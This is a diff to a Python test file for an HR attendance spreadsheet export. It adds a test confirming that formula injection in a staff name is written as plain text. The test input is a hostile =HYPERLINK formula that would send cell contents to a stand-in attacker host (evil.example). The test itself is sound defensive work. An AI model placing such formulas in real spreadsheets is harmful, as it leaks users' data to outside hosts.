@@ -1,12 +1,14 @@
 """HR's monthly sheet per department: JSON and XLSX, one row a person, one column a day, the usual symbols."""
 
 import io
+from datetime import date
 
 from openpyxl import load_workbook
 
 from tests.attendance.support import MONTH, full_day, local, make_world, terminal_punch
 from tests.factories import logged_in
-from window_staff.attendance.schemas import LeaveDecisionIn, LeaveIn
+from window_staff.attendance import views
+from window_staff.attendance.schemas import LeaveDecisionIn, LeaveIn, MonthTotalsOut, SheetOut, SheetRowOut
 from window_staff.attendance.service import leave as service_leave
 
 
@@ -74,3 +76,17 @@ async def test_the_xlsx_has_one_row_per_person_and_the_right_symbols(client, app
     assert totals["出勤(次)"] == 3 and totals["迟到(次)"] == 1 and totals["迟到(分)"] == 20 and totals["缺卡(次)"] == 1
     b_totals = dict(zip(header[33:], b[33:], strict=True))
     assert b_totals["请假(半天)"] == 2 and b_totals["公出(半天)"] == 1
+
+
+def test_a_formula_in_a_name_is_written_as_text_not_run() -> None:
+    totals = MonthTotalsOut(
+        sessions=0, present=0, late_count=0, late_minutes=0, early_count=0, early_minutes=0, absent_half_days=0,
+        missing_sign_in=0, missing_sign_out=0, leave_half_days=0, leave_by_kind={},
+    )  # fmt: skip
+    row = SheetRowOut(staff_id=1, employee_no="+E1", name='=HYPERLINK("http://evil.example/?d="&A1,"x")', days=["√"], totals=totals)
+    sheet = SheetOut(department_id=1, month="2025-03", days=[date(2025, 3, 1)], legend={"√": "出勤"}, rows=[row])
+    ws = load_workbook(io.BytesIO(views.sheet_xlsx(sheet))).active
+    no, name = ws.cell(row=2, column=1), ws.cell(row=2, column=2)
+    assert (no.value, no.data_type) == ("'+E1", "s")
+    assert (name.value, name.data_type) == ("'" + row.name, "s")
+    assert ws.cell(row=2, column=3).value == "√" and ws.cell(row=2, column=4).value == 0
